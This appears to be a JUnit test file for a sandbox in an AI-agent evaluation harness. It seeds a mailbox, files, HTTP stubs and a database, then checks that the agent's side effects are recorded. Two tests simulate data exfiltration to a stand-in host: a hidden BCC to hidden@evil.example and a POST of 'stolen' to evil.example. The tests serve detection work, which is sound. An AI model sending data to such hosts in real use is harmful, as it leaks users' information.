package dev.leash.eval.sandbox;

import static org.assertj.core.api.Assertions.assertThat;

import dev.leash.api.run.Outcome;
import dev.leash.api.run.RunCounts;
import dev.leash.api.run.RunResult;
import dev.leash.eval.effects.Evidence;
import dev.leash.eval.scenario.Scenario;
import dev.leash.eval.scenario.ScenarioLoader;
import jakarta.mail.Folder;
import jakarta.mail.Message;
import jakarta.mail.Session;
import jakarta.mail.Store;
import jakarta.mail.Transport;
import jakarta.mail.internet.InternetAddress;
import jakarta.mail.internet.MimeMessage;
import java.net.InetAddress;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.Statement;
import java.util.List;
import java.util.Properties;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

class SandboxTest {

    private static final String SCENARIO = """
            id: sandbox-check
            category: benign
            goal: g
            principal: alex@novastar.example
            environment:
              mailbox:
                - { id: m1, from: cto@novastar.example, to: alex@novastar.example, subject: Specs, body: "see attached",
                    attachments: [ { name: spec.txt, content: "spec body" } ] }
                - { id: m2, from: a@b.example, to: alex@novastar.example, subject: Hello, body: "hi" }
              files: { "workspace/a.txt": "A", "workspace/b.txt": "B" }
              http:
                - { method: GET, url: "https://wiki.novastar.example/page?x=1", status: 200,
                    headers: { Content-Type: text/plain }, body: "wiki page" }
              database: [ "CREATE TABLE t(id INT)", "INSERT INTO t VALUES (1)", "CREATE TABLE u(id INT)" ]
            script: [ { calls: [ { tool: http_get, args: { url: "https://other.example/x" } } ] } ]
            expect: {}
            """;

    private static SandboxServers servers;

    @BeforeAll
    static void startServers() {
        servers = SandboxServers.start();
    }

    @AfterAll
    static void stopServers() {
        servers.close();
    }

    private static Scenario scenario() {
        return new ScenarioLoader().parse(SCENARIO, "sandbox.yaml", false);
    }

    private static RunResult finished(String answer) {
        return new RunResult("run-1", Outcome.COMPLETED, answer, List.of(), RunCounts.ZERO);
    }

    @Test
    void seedsTheMailboxReadableOverImapWithAttachments() throws Exception {
        try (Sandbox sandbox = Sandbox.start(scenario(), servers)) {
            SandboxMail mail = sandbox.mail();
            Store store = Session.getInstance(new Properties()).getStore("imap");
            store.connect(mail.host(), mail.imapPort(), mail.login(), mail.password());
            Folder inbox = store.getFolder("INBOX");
            inbox.open(Folder.READ_ONLY);
            Message[] messages = inbox.getMessages();
            assertThat(messages).hasSize(2);
            assertThat(messages[0].getSubject()).isEqualTo("Specs");
            assertThat(messages[0].getHeader(SandboxMail.ID_HEADER)).containsExactly("m1");
            assertThat(((MimeMessage) messages[0]).getMessageID()).isEqualTo("<m1>");
            assertThat(messages[0].isMimeType("multipart/*")).isTrue();
            assertThat(mail.uidOf("m2")).isPresent();
            assertThat(InetAddress.getByName(mail.host()).isLoopbackAddress()).isTrue();
            store.close();
        }
    }

    @Test
    void observesMailThatArrivedAtTheSmtpServerButNotTheSeed() throws Exception {
        try (Sandbox sandbox = Sandbox.start(scenario(), servers)) {
            SandboxMail mail = sandbox.mail();
            Properties props = new Properties();
            props.put("mail.smtp.host", mail.host());
            props.put("mail.smtp.port", Integer.toString(mail.smtpPort()));
            MimeMessage message = new MimeMessage(Session.getInstance(props));
            message.setFrom(new InternetAddress(mail.address()));
            message.setRecipients(Message.RecipientType.TO, InternetAddress.parse("Priya <priya@novastar.example>"));
            message.setRecipients(Message.RecipientType.BCC, InternetAddress.parse("hidden@evil.example"));
            message.setSubject("Fwd: Specs");
            message.setText("the body");
            Transport.send(message);

            Evidence evidence = sandbox.observe(finished("ok"));

            assertThat(evidence.mails()).singleElement().satisfies(sent -> {
                assertThat(sent.recipients()).containsExactlyInAnyOrder("priya@novastar.example", "hidden@evil.example");
                assertThat(sent.subject()).isEqualTo("Fwd: Specs");
                assertThat(sent.body()).contains("the body");
            });
        }
    }

    @Test
    void routesScenarioUrlsToTheStubAndRecordsRequestsAsWritten() throws Exception {
        try (Sandbox sandbox = Sandbox.start(scenario(), servers)) {
            SandboxHttp http = sandbox.http();
            HttpClient client = HttpClient.newHttpClient();
            URI routed = http.route(URI.create("https://wiki.novastar.example/page?x=1"));
            assertThat(routed.getHost()).isEqualTo("127.0.0.1");
            HttpResponse<String> page = client.send(HttpRequest.newBuilder(routed).build(), HttpResponse.BodyHandlers.ofString());
            assertThat(page.statusCode()).isEqualTo(200);
            assertThat(page.body()).isEqualTo("wiki page");
            assertThat(page.headers().firstValue("Content-Type")).hasValue("text/plain");

            HttpResponse<String> unknown = client.send(HttpRequest.newBuilder(http.route(URI.create("https://evil.example/c")))
                    .POST(HttpRequest.BodyPublishers.ofString("stolen")).build(), HttpResponse.BodyHandlers.ofString());
            assertThat(unknown.statusCode()).isEqualTo(404);

            Evidence evidence = sandbox.observe(finished("ok"));
            assertThat(evidence.requests()).extracting(Evidence.Request::url)
                    .containsExactly("https://wiki.novastar.example/page?x=1", "https://evil.example/c");
            assertThat(evidence.requests().get(1).body()).isEqualTo("stolen");
            assertThat(evidence.requests().get(1).host()).isEqualTo("evil.example");
            assertThat(http.hosts()).containsExactly("wiki.novastar.example", "other.example");
        }
    }

    @Test
    void givesHostsDocumentationAddressesNeverLoopbackOrPrivate() {
        try (Sandbox sandbox = Sandbox.start(scenario(), servers)) {
            InetAddress wiki = sandbox.http().documentationAddress("wiki.novastar.example");
            InetAddress other = sandbox.http().documentationAddress("anything.example");
            assertThat(wiki.getHostAddress()).isEqualTo("192.0.2.1");
            assertThat(wiki.getHostName()).isEqualTo("wiki.novastar.example");
            for (InetAddress address : List.of(wiki, other)) {
                assertThat(address.isLoopbackAddress()).isFalse();
                assertThat(address.isSiteLocalAddress()).isFalse();
                assertThat(address.getHostAddress()).matches("(192\\.0\\.2|198\\.51\\.100|203\\.0\\.113)\\.\\d+");
            }
        }
    }

    @Test
    void observesFilesWrittenAndDeletedAgainstTheSeed() throws Exception {
        try (Sandbox sandbox = Sandbox.start(scenario(), servers)) {
            Path root = sandbox.root();
            assertThat(root.resolve("workspace/a.txt")).hasContent("A");
            Files.writeString(root.resolve("workspace/a.txt"), "changed");
            Files.delete(root.resolve("workspace/b.txt"));
            Files.writeString(root.resolve("new.txt"), "new");

            Evidence evidence = sandbox.observe(finished("ok"));

            assertThat(evidence.filesWritten()).containsOnly(
                    java.util.Map.entry("workspace/a.txt", "changed"), java.util.Map.entry("new.txt", "new"));
            assertThat(evidence.filesDeleted()).containsExactly("workspace/b.txt");
        }
    }

    @Test
    void observesChangedTablesByComparingSnapshots() throws Exception {
        try (Sandbox sandbox = Sandbox.start(scenario(), servers)) {
            try (Connection connection = DriverManager.getConnection(sandbox.databaseUrl(), sandbox.databaseUser(),
                    sandbox.databasePassword()); Statement statement = connection.createStatement()) {
                statement.execute("UPDATE t SET id = 1 WHERE id = 1");
                statement.execute("INSERT INTO u VALUES (5)");
                statement.execute("CREATE TABLE v(id INT)");
            }
            Evidence evidence = sandbox.observe(finished("ok"));
            assertThat(evidence.tablesChanged()).containsExactlyInAnyOrder("U", "V");
        }
    }

    @Test
    void aFreshSandboxOnSharedServersStartsEmpty() throws Exception {
        try (Sandbox first = Sandbox.start(scenario(), servers)) {
            HttpClient.newHttpClient().send(HttpRequest.newBuilder(first.http().route(URI.create("https://x.example/"))).build(),
                    HttpResponse.BodyHandlers.ofString());
        }
        try (Sandbox second = Sandbox.start(scenario(), servers)) {
            Evidence evidence = second.observe(finished(""));
            assertThat(evidence.requests()).isEmpty();
            assertThat(evidence.mails()).isEmpty();
            assertThat(evidence.filesWritten()).isEmpty();
        }
    }

    @Test
    void closingDeletesTheFileRoot() {
        Path root;
        try (Sandbox sandbox = Sandbox.start(scenario(), servers)) {
            root = sandbox.root();
        }
        assertThat(root).doesNotExist();
    }

    @Test
    void aFailingSeedStatementNamesItsIndex() {
        Scenario broken = new ScenarioLoader().parse(SCENARIO.replace("\"CREATE TABLE u(id INT)\"", "\"CREATE TABLE nonsense(\""),
                "broken.yaml", false);
        org.assertj.core.api.Assertions.assertThatThrownBy(() -> Sandbox.start(broken, servers))
                .hasMessageContaining("broken.yaml")
                .hasMessageContaining("$.environment.database[2]");
    }
}
